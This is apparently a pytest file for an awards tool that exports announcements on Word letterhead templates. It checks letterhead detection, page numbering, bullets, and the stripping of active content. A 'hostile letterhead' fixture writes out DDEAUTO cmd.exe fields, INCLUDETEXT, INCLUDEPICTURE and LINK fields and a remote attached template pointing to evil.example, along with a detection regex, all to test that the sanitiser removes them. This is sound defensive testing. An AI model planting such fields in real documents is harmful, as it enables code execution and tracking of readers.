"""`export announcement --template`: any real letterhead (header-drawn, body-drawn, styles only, a
long sample document, Word 2007, LibreOffice), and nothing in it that acts or reaches out.

The letterheads are data files made by tests/data/letterheads/make_letterheads.py."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from docx import Document
from lxml import etree

from awards.commands.cli import cli

LETTERHEADS = Path(__file__).parent / "data" / "letterheads"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
SAMPLE = ("Kiitämme yhteydenotostanne", "Hyvä vastaanottaja", "[Otsikko]", "jäsenmaksut")


def w(tag: str) -> str:
    return f"{{{W}}}{tag}"


def export(demo_year, tmp_path: Path, template: Path, lang: str = "fi") -> tuple[Result, Path]:
    db = tmp_path / "awards.db"
    if not db.exists():
        shutil.copy(demo_year[0], db)
    out = tmp_path / f"tiedote-{template.stem}-{lang}.docx"
    result = CliRunner().invoke(
        cli,
        ["--db", str(db), "export", "announcement", "--year", "2026", "--lang", lang,
         "--template", str(template), "-o", str(out)],
    )  # fmt: skip
    assert result.exit_code == 0, (result.output, result.exception)
    return result, out


def part(path: Path, name: str) -> etree._Element:
    with zipfile.ZipFile(path) as archive:
        return etree.fromstring(archive.read(name))


def body_children(path: Path) -> list[etree._Element]:
    body = part(path, "word/document.xml").find(w("body"))
    return [c for c in body if c.tag != w("sectPr")]


def text_of(element: etree._Element) -> str:
    return "".join(t.text or "" for t in element.iter(w("t")))


def footers(path: Path) -> list[etree._Element]:
    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if re.fullmatch(r"word/footer\d*\.xml", n)]
        return [etree.fromstring(archive.read(n)) for n in names]


def page_fields(path: Path) -> int:
    """PAGE fields in the footers, simple and complex."""
    count = 0
    for root in footers(path):
        count += sum(
            1 for f in root.iter(w("fldSimple")) if f.get(w("instr"), "").split()[0] == "PAGE"
        )
        count += sum(1 for i in root.iter(w("instrText")) if (i.text or "").split() == ["PAGE"])
    return count


def bullet_numbering(path: Path) -> bool:
    """Whether "List Bullet" leads, through its numPr, to a bullet level 0."""
    styles = part(path, "word/styles.xml")
    style = next(
        s for s in styles.iter(w("style")) if s.find(w("name")).get(w("val")) == "List Bullet"
    )
    num_id = style.find(f"{w('pPr')}/{w('numPr')}/{w('numId')}").get(w("val"))
    numbering = part(path, "word/numbering.xml")
    num = next(n for n in numbering.iter(w("num")) if n.get(w("numId")) == num_id)
    abstract_id = num.find(w("abstractNumId")).get(w("val"))
    abstract = next(
        a for a in numbering.iter(w("abstractNum")) if a.get(w("abstractNumId")) == abstract_id
    )
    level = next(lvl for lvl in abstract.iter(w("lvl")) if lvl.get(w("ilvl")) == "0")
    return level.find(w("numFmt")).get(w("val")) == "bullet"


def jury_is_bulleted(path: Path) -> bool:
    document = Document(str(path))
    bullets = [p for p in document.paragraphs if p.style.name == "List Bullet"]
    return len(bullets) >= 3 and bullet_numbering(path)


# ---- the letterhead where the organisation drew it -------------------------------------------


def test_a_letterhead_drawn_in_the_body_is_on_the_first_page(demo_year, tmp_path) -> None:
    result, out = export(demo_year, tmp_path, LETTERHEADS / "body-drawn.docx")
    first, second, third = body_children(out)[:3]
    # The floating logo, with its image carried, then the address table, then the release.
    assert first.find(f".//{{{WP}}}anchor") is not None
    blip = next(first.iter(f"{{{A}}}blip"))
    rels = part(out, "word/_rels/document.xml.rels")
    target = next(r.get("Target") for r in rels if r.get("Id") == blip.get(f"{{{R}}}embed"))
    with zipfile.ZipFile(out) as archive:
        assert archive.read("word/" + target).startswith(b"\x89PNG")
    assert second.tag == w("tbl") and "Mannerheimintie 1 A" in text_of(second)
    assert "www.example.fi" in text_of(second)  # the hyperlink's text, as plain text
    assert third.find(f"{w('pPr')}/{w('pStyle')}").get(w("val")) == "Title"
    everything = text_of(part(out, "word/document.xml"))
    assert not [s for s in SAMPLE if s in everything]
    assert "Vuoden Asiakasneuvoja 2026" in everything
    assert (
        "took 1 drawing and 1 table from the top of the template's body; left out 7 "
        "paragraphs, 1 table and 1 page break of sample text and 1 placeholder ([Otsikko])"
    ) in result.stderr
    assert "hyperlink https://www.example.fi/" in result.stderr
    # The footer numbers its pages itself: no "Sivu n / m" beside it.
    assert page_fields(out) == 1
    assert "its footer numbers the pages: the tool adds no page numbers" in result.stderr
    assert "NUMPAGES" not in " ".join(etree.tostring(f, encoding=str) for f in footers(out))
    assert jury_is_bulleted(out)


def test_a_letterhead_drawn_in_the_header_stays_there(demo_year, tmp_path) -> None:
    result, out = export(demo_year, tmp_path, LETTERHEADS / "header-drawn.docx", "en")
    document = Document(str(out))
    header = document.sections[0].header
    assert "Asiakaspalveluyhdistys ry" in [p.text for p in header.paragraphs]
    assert header.part.rels and any("image" in r.reltype for r in header.part.rels.values())
    everything = text_of(part(out, "word/document.xml"))
    assert "Helsingissä 1.3.2026" not in everything and "Hyvä vastaanottaja" not in everything
    assert (
        "found no letterhead drawn at the top of the template's body; left out 8 paragraphs "
        "of sample text"
    ) in result.stderr
    assert document.paragraphs[0].style.name == "Title"  # the release starts the body
    assert page_fields(out) == 1  # the tool's, the template has none
    assert "Page" in " ".join(p.text for p in document.sections[0].footer.paragraphs)
    assert jury_is_bulleted(out)


def test_a_letterhead_of_styles_only_gets_bullets_and_page_numbers(demo_year, tmp_path) -> None:
    result, out = export(demo_year, tmp_path, LETTERHEADS / "styles-only.docx")
    assert jury_is_bulleted(out)  # no numbering part and no "List Bullet" in the template
    assert page_fields(out) == 1
    assert Document(str(out)).styles["Normal"].font.name == "Georgia"
    assert "sample text" not in result.stderr  # an empty body: nothing to say about it


def test_a_long_sample_document_gives_its_first_sections_header_only(demo_year, tmp_path) -> None:
    result, out = export(demo_year, tmp_path, LETTERHEADS / "long-sample.docx")
    document = Document(str(out))
    assert len(document.sections) == 1
    assert document.sections[0].header.paragraphs[0].text.startswith("ASIAKASPALVELUYHDISTYS")
    everything = text_of(part(out, "word/document.xml"))
    assert "Luvun" not in everything and "Liitteet" not in everything
    assert "left out 59 paragraphs, 2 tables and 1 drawing of sample text" in result.stderr
    assert "2 sections: the first one's header" in result.stderr
    with zipfile.ZipFile(out) as archive:
        # The sample's picture and the second section's header are not carried.
        assert not [n for n in archive.namelist() if n.startswith("word/media/")]
        headers = [n for n in archive.namelist() if re.fullmatch(r"word/header\d*\.xml", n)]
        assert all(b"LIITTEET" not in archive.read(n) for n in headers)


def test_a_word_2007_letterhead_keeps_its_logo_but_not_the_date_line(demo_year, tmp_path) -> None:
    result, out = export(demo_year, tmp_path, LETTERHEADS / "word2007.docx")
    frame, logo = body_children(out)[:2]
    assert frame.find(f"{w('pPr')}/{w('framePr')}") is not None
    assert "Mannerheimintie 1 A" in text_of(frame)
    assert logo.find(f".//{w('pict')}") is not None and text_of(logo) == ""
    everything = text_of(part(out, "word/document.xml"))
    assert "12.3.2008" not in everything and "Esimerkkikohta" not in everything
    assert "took 1 drawing and 1 text frame" in result.stderr
    assert "left out 7 paragraphs of sample text" in result.stderr
    assert page_fields(out) == 1  # the template's fldSimple PAGE
    # "List Bullet" pointed to a decimal list: it now points to a bullet one.
    assert jury_is_bulleted(out)


def test_pages_numbered_in_the_header_are_not_numbered_again(demo_year, tmp_path) -> None:
    """Finnish letters (SFS 2487) number their pages at the top right: "Sivu 1 (3)"."""
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    letterhead = Document()
    top = letterhead.sections[0].header.paragraphs[0]
    top.text = "Yhdistys ry\tTIEDOTE\t"
    top._p.append(
        parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE "><w:r><w:t>1</w:t></w:r>'
                  "</w:fldSimple>")
    )  # fmt: skip
    letterhead.save(str(tmp_path / "sfs.docx"))
    result, out = export(demo_year, tmp_path, tmp_path / "sfs.docx")
    assert page_fields(out) == 0  # none added in the footer
    assert "its header numbers the pages" in result.stderr


@pytest.mark.skipif(not (LETTERHEADS / "libreoffice.docx").exists(), reason="not made")
def test_a_body_letterhead_saved_by_libreoffice(demo_year, tmp_path) -> None:
    result, out = export(demo_year, tmp_path, LETTERHEADS / "libreoffice.docx")
    first, second = body_children(out)[:2]
    assert next(first.iter(w("drawing")), None) is not None
    assert second.tag == w("tbl") and "Asiakaspalveluyhdistys ry" in text_of(second)
    assert "took 1 drawing and 1 table" in result.stderr
    assert not [s for s in SAMPLE if s in text_of(part(out, "word/document.xml"))]
    assert jury_is_bulleted(out) and page_fields(out) == 1


def test_the_rule_ends_the_letterhead_at_a_large_table_and_keeps_a_logo_line(tmp_path) -> None:
    """Unit test of the rule on its own: a logo beside a short name is a letterhead line;
    a table too large for an address block is sample text, and so is all that follows."""
    from docx.shared import Cm

    from awards.exports.letterhead import prepare
    from tests.data.letterheads.make_letterheads import logo_png

    logo = tmp_path / "logo.png"
    logo.write_bytes(logo_png())
    document = Document()
    line = document.add_paragraph()
    line.add_run().add_picture(str(logo), width=Cm(3))
    line.add_run(" Yhdistys ry")
    document.add_paragraph()
    document.add_table(rows=8, cols=2).cell(0, 0).text = "Hinnasto"
    document.add_paragraph().add_run().add_picture(str(logo), width=Cm(3))
    document.save(str(tmp_path / "pohja.docx"))
    prepared = prepare(tmp_path / "pohja.docx")
    with zipfile.ZipFile(__import__("io").BytesIO(prepared.package)) as archive:
        body = etree.fromstring(archive.read("word/document.xml")).find(w("body"))
    kept = [c for c in body if c.tag != w("sectPr")]
    assert len(kept) == 1 and text_of(kept[0]) == " Yhdistys ry"
    assert (
        "took 1 drawing from the top of the template's body; left out 1 table and 1 drawing "
        "of sample text"
    ) in prepared.notes


def test_a_text_box_is_letterhead_only_while_it_is_short(tmp_path) -> None:
    from docx.oxml import parse_xml

    from awards.exports.letterhead import prepare

    def box(text: str) -> str:
        return (
            f'<w:p {NS}><w:r><w:pict><v:shape style="position:absolute;width:200pt;'
            'height:60pt"><v:textbox><w:txbxContent><w:p><w:r><w:t>'
            f"{text}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
        )

    document = Document()
    body = document.element.body
    body.insert(0, parse_xml(box("Yhdistys ry, Mannerheimintie 1 A, 00100 Helsinki")))
    body.insert(1, parse_xml(box("Näyteteksti. " * 40)))
    document.save(str(tmp_path / "laatikot.docx"))
    prepared = prepare(tmp_path / "laatikot.docx")
    with zipfile.ZipFile(__import__("io").BytesIO(prepared.package)) as archive:
        body = etree.fromstring(archive.read("word/document.xml")).find(w("body"))
    kept = [c for c in body if c.tag != w("sectPr")]
    assert [text_of(c) for c in kept] == ["Yhdistys ry, Mannerheimintie 1 A, 00100 Helsinki"]
    assert "took 1 drawing" in prepared.notes[-1] and "left out 1 drawing" in prepared.notes[-1]


def test_the_sample_texts_footnotes_are_not_carried(tmp_path) -> None:
    from awards.exports.letterhead import prepare

    with zipfile.ZipFile(LETTERHEADS / "word2007.docx") as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts["word/footnotes.xml"] = (
        f'<?xml version="1.0"?><w:footnotes {NS}><w:footnote w:type="separator" w:id="-1">'
        '<w:p><w:r><w:separator/></w:r></w:p></w:footnote><w:footnote w:id="1"><w:p><w:r>'
        "<w:t>Sisäinen alaviite</w:t></w:r></w:p></w:footnote></w:footnotes>"
    ).encode()
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId9" Type="{REL}footnotes" Target="footnotes.xml"/>'
        "</Relationships>".encode(),
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.footnotes+xml"/></Types>',
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:t>Hyv", b'<w:footnoteReference w:id="1"/></w:r><w:r><w:t>Hyv', 1
    )
    template = tmp_path / "alaviite.docx"
    with zipfile.ZipFile(template, "w") as out:
        for name, data in parts.items():
            out.writestr(name, data)
    with zipfile.ZipFile(__import__("io").BytesIO(prepare(template).package)) as archive:
        notes = archive.read("word/footnotes.xml")
    assert b"separator" in notes and "Sisäinen".encode() not in notes


# ---- nothing that acts or reaches out --------------------------------------------------------

NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSREL = "http://schemas.microsoft.com/office/2006/relationships/"


def picture(r_attr: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="600000"/>'
        '<wp:docPr id="1" name="Logo"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {r_attr}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="600000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r>"
    )


def complex_field(*codes: str, shown: str) -> str:
    instr = "".join(
        f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in codes
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{instr}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def rels(*entries: tuple[str, str, str, bool]) -> str:
    items = "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for i, t, target, external in entries
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}'
        "</Relationships>"
    )


def hostile_letterhead(tmp_path: Path) -> Path:
    """A letterhead holding every kind of thing that acts or reaches out, part by part: a
    python-docx document whose body, header, footer, settings and relationships are written
    here, plus macro, ActiveX, OLE and altChunk parts."""
    from tests.data.letterheads.make_letterheads import logo_png

    base = tmp_path / "base.docx"
    Document().save(str(base))
    with zipfile.ZipFile(base) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    ole = (
        '<w:r><w:object><v:shape id="ole1" style="width:40pt;height:40pt"><v:imagedata '
        'r:id="rIdOlePic"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" '
        'ShapeID="ole1" r:id="rIdOle"/></w:object></w:r>'
    )
    control = (
        '<w:r><w:object><v:shape id="ax1" style="width:40pt;height:20pt"/><w:control '
        'r:id="rIdAx" w:name="CommandButton1" w:shapeid="ax1"/></w:object></w:r>'
    )
    letterhead = (
        "<w:p>" + picture('r:embed="rIdLogo"') + picture('r:link="rIdLinked"') + control + "</w:p>"
    )
    table = (
        '<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid>'
        '<w:gridCol w:w="4500"/><w:gridCol w:w="4500"/></w:tblGrid><w:tr><w:tc><w:p>'
        '<w:hyperlink r:id="rIdWeb"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr>'
        "<w:t>www.example.fi</w:t></w:r></w:hyperlink></w:p><w:p>"
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot; ">'
        "<w:r><w:t>Mannerheimintie 1</w:t></w:r></w:fldSimple></w:p></w:tc><w:tc><w:p>"
        + complex_field(" INCLUDETEXT ", '"http://evil.example/x.docx" ', shown="Puh. 09 123")
        + '</w:p><w:p><w:ins w:id="1" w:author="X" w:date="2024-01-01T00:00:00Z"><w:r>'
        '<w:t>lisätty</w:t></w:r></w:ins><w:del w:id="2" w:author="X"><w:r><w:delText>'
        'poistettu</w:delText></w:r></w:del><w:moveFrom w:id="3" w:author="X"><w:r><w:t>'
        'siirretty-pois</w:t></w:r></w:moveFrom><w:moveTo w:id="4" w:author="X"><w:r><w:t>'
        ' siirretty</w:t></w:r></w:moveTo><w:r><w:rPr><w:b/><w:rPrChange w:id="5" w:author="X">'
        "<w:rPr/></w:rPrChange></w:rPr><w:t> muotoiltu</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {NS}><w:body>'
        f'{letterhead}{table}<w:altChunk r:id="rIdChunk"/>'
        "<w:p><w:r><w:t>Näytekirje, jota ei tule viedä.</w:t></w:r></w:p>"
        '<w:sectPr><w:headerReference w:type="default" r:id="rIdHdr"/>'
        '<w:footerReference w:type="default" r:id="rIdFtr"/><w:pgSz w:w="11906" '
        'w:h="16838"/></w:sectPr></w:body></w:document>'
    )
    header = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {NS}><w:p>'
        '<w:pPr><w:pPrChange w:id="6" w:author="X"><w:pPr/></w:pPrChange></w:pPr>'
        "<w:r><w:t>YHDISTYS RY</w:t></w:r>"
        + complex_field(" LINK Excel.Sheet.8 ", '"\\\\\\\\evil\\\\share\\\\a.xls" ', shown=" L")
        + ole
        + '</w:p><w:altChunk r:id="rIdHdrChunk"/></w:hdr>'
    )
    footer = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {NS}><w:p>'
        + complex_field(" INCLUDE", 'PICTURE "http://evil.example/pixel.png" \\d ', shown="")
        + '<w:fldSimple w:instr="DDE Excel &quot;x&quot;"><w:r><w:t>DDE-tulos</w:t></w:r>'
        "</w:fldSimple><w:r><w:t>Yhdistys ry · Helsinki</w:t></w:r></w:p></w:ftr>"
    )
    settings = parts["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:attachedTemplate r:id="rIdTpl"/></w:settings>',
    )
    settings = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:trackRevisions/><w:updateFields w:val="true"/>',
        settings,
        count=1,
    )
    if b'xmlns:r="' not in settings.split(b">", 2)[1]:
        settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{R}" '.encode(), 1)
    added = rels(
        ("rIdLogo", REL + "image", "media/logo.png", False),
        ("rIdLinked", REL + "image", "http://evil.example/track.png", True),
        ("rIdWeb", REL + "hyperlink", "https://www.example.fi/", True),
        ("rIdChunk", REL + "aFChunk", "afchunk.mht", False),
        ("rIdAx", REL + "control", "activeX/activeX1.xml", False),
        ("rIdVba", MSREL + "vbaProject", "vbaProject.bin", False),
        ("rIdHdr", REL + "header", "header9.xml", False),
        ("rIdFtr", REL + "footer", "footer9.xml", False),
    )
    entries = added[added.index("<Relationship ") : added.index("</Relationships>")]
    document_rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", entries.encode() + b"</Relationships>"
    )
    types = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="mht" ContentType="message/rfc822"/>'
        b'<Override PartName="/word/vbaData.xml" '
        b'ContentType="application/vnd.ms-word.vbaData+xml"/>'
        b'<Override PartName="/word/activeX/activeX1.xml" '
        b'ContentType="application/vnd.ms-office.activeX+xml"/>'
        b'<Override PartName="/word/activeX/activeX1.bin" '
        b'ContentType="application/vnd.ms-office.activeX"/>'
        b'<Override PartName="/word/embeddings/oleObject1.bin" '
        b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        b'<Override PartName="/word/header9.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.header+xml"/>'
        b'<Override PartName="/word/footer9.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.footer+xml"/></Types>',
    )
    if b'Extension="png"' not in types:
        types = types.replace(
            b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>'
        )
    parts.update(
        {
            "[Content_Types].xml": types,
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": document_rels,
            "word/header9.xml": header.encode(),
            "word/_rels/header9.xml.rels": rels(
                ("rIdOle", REL + "oleObject", "embeddings/oleObject1.bin", False),
                ("rIdOlePic", REL + "image", "media/logo.png", False),
                ("rIdHdrChunk", REL + "aFChunk", "afchunk.mht", False),
            ).encode(),
            "word/footer9.xml": footer.encode(),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": rels(
                ("rIdTpl", REL + "attachedTemplate", "https://evil.example/t.dotm", True)
            ).encode(),
            "word/media/logo.png": logo_png(),
            "word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><body>chunk</body></html>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
            "word/_rels/vbaProject.bin.rels": rels(
                ("rIdData", MSREL + "wordVbaData", "vbaData.xml", False)
            ).encode(),
            "word/vbaData.xml": b'<?xml version="1.0"?><wne:vbaSuppData '
            b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx '
            b'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
            "word/activeX/activeX1.bin": b"\x00activex",
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole",
        }
    )
    path = tmp_path / "vihamielinen.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


DANGEROUS_FIELD = re.compile(r"^\s*(DDE|DDEAUTO|INCLUDETEXT|INCLUDEPICTURE|INCLUDE|LINK)\b", re.I)
TRACKED = {"ins", "del", "moveFrom", "moveTo", "rPrChange", "pPrChange", "delText"}


def assert_nothing_acts_or_reaches_out(path: Path) -> None:
    """Every part of the output, one by one."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            lowered = name.lower()
            assert not any(
                bad in lowered for bad in ("vba", "activex", "embeddings", "afchunk", ".bin")
            ), name
            data = archive.read(name)
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in data, name
                continue
            if not name.endswith(".xml"):
                continue
            assert b"vbaProject" not in data and b"activeX" not in data, name
            root = etree.fromstring(data)
            for element in root.iter():
                if not isinstance(element.tag, str):
                    continue
                local = etree.QName(element).localname
                namespace = etree.QName(element).namespace
                if namespace == W:
                    assert local not in TRACKED, (name, local)
                    assert local not in {"altChunk", "object", "control", "attachedTemplate"}
                    assert local not in {"trackRevisions", "updateFields", "subDoc"}, name
                assert local != "OLEObject", name
                if element.tag == w("fldSimple"):
                    assert not DANGEROUS_FIELD.match(element.get(w("instr"), "")), name
            codes = "".join(i.text or "" for i in root.iter(w("instrText")))
            for code in re.split(r"\s{2,}|(?=\s[A-Z]{3,}\s)", codes):
                assert not DANGEROUS_FIELD.match(code), (name, code)
            assert "DDE" not in codes and "INCLUDE" not in codes and "LINK" not in codes, name


def test_nothing_that_acts_or_reaches_out_is_carried(demo_year, tmp_path) -> None:
    template = hostile_letterhead(tmp_path)
    result, out = export(demo_year, tmp_path, template)
    assert_nothing_acts_or_reaches_out(out)
    # The letterhead itself is there: the embedded logo, the address as plain text, the
    # results the fields showed, the accepted insertions; not the deletions.
    text = text_of(part(out, "word/document.xml"))
    for kept in ("www.example.fi", "Mannerheimintie 1", "Puh. 09 123", "lisätty", "siirretty"):
        assert kept in text, kept
    assert "poistettu" not in text and "siirretty-pois" not in text
    assert "Näytekirje" not in text
    blips = list(part(out, "word/document.xml").iter(f"{{{A}}}blip"))
    assert len(blips) == 1 and blips[0].get(f"{{{R}}}embed")
    assert "YHDISTYS RY" in text_of(part(out, "word/header9.xml")) or any(
        "YHDISTYS RY" in p.text for p in Document(str(out)).sections[0].header.paragraphs
    )
    said = result.stderr
    for named in (
        "macros: word/vbaProject.bin",
        "word/vbaData.xml",
        "ActiveX controls",
        "attached template https://evil.example/t.dotm",
        "linked image http://evil.example/track.png",
        "hyperlink https://www.example.fi/",
        "altChunks",
        "embedded OLE objects",
        "DDEAUTO",
        "INCLUDETEXT",
        "INCLUDEPICTURE",
        "LINK",
        "DDE,",
        "tracked changes: 2 insertions accepted, 2 deletions dropped, 2 formatting changes",
        "revision tracking",
        "updating fields on opening",
    ):
        assert named in said, (named, said)
    # Opened by python-docx and by the reader of the release as a plain document.
    assert Document(str(out)).paragraphs


def test_a_macro_enabled_template_is_refused(demo_year, tmp_path) -> None:
    source = LETTERHEADS / "header-drawn.docx"
    target = tmp_path / "makro.docx"
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w") as out:
        for item in archive.infolist():
            data = archive.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"wordprocessingml.document.main+xml",
                    b"ms-word.document.macroEnabled.main+xml",
                ).replace(
                    b"application/vnd.openxmlformats-officedocument.ms-word",
                    b"application/vnd.ms-word",
                )
            out.writestr(item, data)
    db = tmp_path / "awards.db"
    shutil.copy(demo_year[0], db)
    result = CliRunner().invoke(
        cli, ["--db", str(db), "export", "announcement", "--year", "2026", "--template",
              str(target), "-o", str(tmp_path / "t.docx")],
    )  # fmt: skip
    assert result.exit_code == 1 and result.stderr.startswith("Error: ")
    assert "macro-enabled" in result.stderr and not (tmp_path / "t.docx").exists()


def test_a_letterhead_with_a_broken_part_is_refused_in_one_line(demo_year, tmp_path) -> None:
    target = tmp_path / "rikki.docx"
    with (
        zipfile.ZipFile(LETTERHEADS / "body-drawn.docx") as archive,
        zipfile.ZipFile(target, "w") as out,
    ):
        for item in archive.infolist():
            data = archive.read(item)
            if item.filename == "word/_rels/document.xml.rels":
                data = data[: len(data) // 2]  # cut off mid-element
            out.writestr(item, data)
    db = tmp_path / "awards.db"
    shutil.copy(demo_year[0], db)
    result = CliRunner().invoke(
        cli, ["--db", str(db), "export", "announcement", "--year", "2026", "--template",
              str(target), "-o", str(tmp_path / "t.docx")],
    )  # fmt: skip
    assert result.exit_code == 1 and result.stderr.startswith("Error: rikki.docx cannot be used")
    assert "document.xml.rels is not well-formed" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and not (tmp_path / "t.docx").exists()


# ---- rendered ---------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.skipif(
    shutil.which("soffice") is None or shutil.which("pdftotext") is None,
    reason="LibreOffice and poppler are not installed",
)
def test_a_body_letterhead_renders_on_the_first_page_only(demo_year, tmp_path) -> None:
    _, out = export(demo_year, tmp_path, LETTERHEADS / "body-drawn.docx")
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
        check=True, capture_output=True, timeout=240,
    )  # fmt: skip
    pdf = tmp_path / (out.stem + ".pdf")

    def page(n: int) -> str:
        return subprocess.run(
            ["pdftotext", "-f", str(n), "-l", str(n), "-layout", str(pdf), "-"],
            capture_output=True, text=True, check=True,
        ).stdout  # fmt: skip

    first, second = page(1), page(2)
    assert "Mannerheimintie 1 A" in first and "Mannerheimintie 1 A" not in second
    assert "Vuoden 2026" in first
    # One page number per page: the template's "Sivu 1", never also "Sivu 1 / 3".
    assert re.search(r"Sivu 1\s*$", first.strip()) and "Sivu 1 /" not in first
    assert "Kiitämme" not in first + second
    if shutil.which("pdfimages"):
        images = subprocess.run(
            ["pdfimages", "-f", "1", "-l", "1", "-list", str(pdf)],
            capture_output=True, text=True, check=True,
        ).stdout.splitlines()[2:]  # fmt: skip
        assert len(images) >= 1  # the logo, drawn
